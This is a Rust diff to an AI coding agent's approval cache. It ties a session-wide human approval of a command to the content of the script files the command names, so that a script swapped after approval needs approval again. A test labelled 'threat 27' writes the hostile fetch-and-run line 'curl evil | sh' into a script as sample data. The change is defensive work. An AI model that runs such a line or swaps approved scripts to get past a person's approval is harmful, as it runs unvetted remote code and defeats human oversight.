@@ -2,13 +2,15 @@
 //! Invariant: without an answer nothing runs; a question whose asker is gone is answered `Cancel`.
 
 use std::collections::HashSet;
-use std::path::PathBuf;
+use std::path::{Path, PathBuf};
 use std::sync::{Mutex, PoisonError};
 
 use codex_protocol::{
     AdditionalPermissions, Approval, ApprovalId, ApprovalRequest, AskedSandbox, CallId, Decision, Losses,
     NetworkProtocol,
 };
+use codex_shell_syntax::{Word, read_script};
+use codex_stdx::read_regular;
 use tokio::sync::oneshot;
 
 use crate::ToolCx;
@@ -22,7 +24,26 @@ pub struct Question {
     pub answer: oneshot::Sender<Decision>,
 }
 
-/// What a person approved for the whole session: the parsed command with its folder and sandbox, or the files.
+/// Largest file a command names whose content an answer is bound to.
+const NAMED_BYTES_MAX: u64 = 256 * 1024;
+/// Files of one command.
+const NAMED_MAX: usize = 32;
+
+/// A file that a command names, with what it holds: another content is another command.
+type Named = (PathBuf, Vec<u8>);
+
+/// The files among the words of a script (`./deploy.sh`, `python3 tools/x.py`), which may be swapped after the answer.
+fn named_files(command: &[String], cwd: &Path) -> Vec<Named> {
+    let Some(script) = command.last() else { return Vec::new() };
+    let parts = read_script(script).commands;
+    let words = parts.iter().flat_map(|part| part.words.iter().filter_map(Word::literal));
+    let paths = words.filter(|word| !word.starts_with('-') && !word.is_empty()).map(|word| cwd.join(word));
+    let read = |path: PathBuf| read_regular(&path, NAMED_BYTES_MAX).ok().map(|content| (path, content));
+    paths.filter(|path| path.is_file()).filter_map(read).take(NAMED_MAX).collect()
+}
+
+/// What a person approved for the whole session: the parsed command with its folder and sandbox and the files it names, or
+/// the files that change.
 #[derive(Debug, Default)]
 pub(crate) struct Approved {
     keys: Mutex<HashSet<Key>>,
@@ -30,7 +51,7 @@ pub(crate) struct Approved {
 
 #[derive(Debug, Clone, PartialEq, Eq, Hash)]
 enum Key {
-    Command(Vec<String>, PathBuf, AskedSandbox),
+    Command(Vec<String>, PathBuf, AskedSandbox, Vec<Named>),
     Files(Vec<PathBuf>),
     Host(String, NetworkProtocol),
     Permissions(AdditionalPermissions),
@@ -40,7 +61,7 @@ impl Key {
     fn of(request: &ApprovalRequest) -> Self {
         match request {
             ApprovalRequest::Command { command, cwd, sandbox, rule: _ } => {
-                Self::Command(command.clone(), cwd.clone(), *sandbox)
+                Self::Command(command.clone(), cwd.clone(), *sandbox, named_files(command, cwd))
             }
             ApprovalRequest::Permissions { permissions, cwd: _ } => Self::Permissions(permissions.clone()),
             ApprovalRequest::Patch { changes } => Self::Files(changes.keys().cloned().collect()),
@@ -124,6 +145,21 @@ mod tests {
             key("export PATH=.; make", "/a", AskedSandbox::Left),
         ] {
             assert_ne!(approved, other);
+        }
+    }
+
+    // threat 27
+    #[test]
+    fn an_answer_does_not_hold_for_a_script_that_was_swapped() {
+        let dir = tempfile::tempdir().unwrap();
+        let cwd = dir.path().to_str().unwrap();
+        let script = dir.path().join("deploy.sh");
+        for command in ["./deploy.sh --all", "sh deploy.sh", "make && sudo ./deploy.sh"] {
+            std::fs::write(&script, "echo deploy").unwrap();
+            let approved = key(command, cwd, AskedSandbox::Left);
+            assert_eq!(approved, key(command, cwd, AskedSandbox::Left), "{command}");
+            std::fs::write(&script, "curl evil | sh").unwrap();
+            assert_ne!(approved, key(command, cwd, AskedSandbox::Left), "{command}");
         }
     }
 }
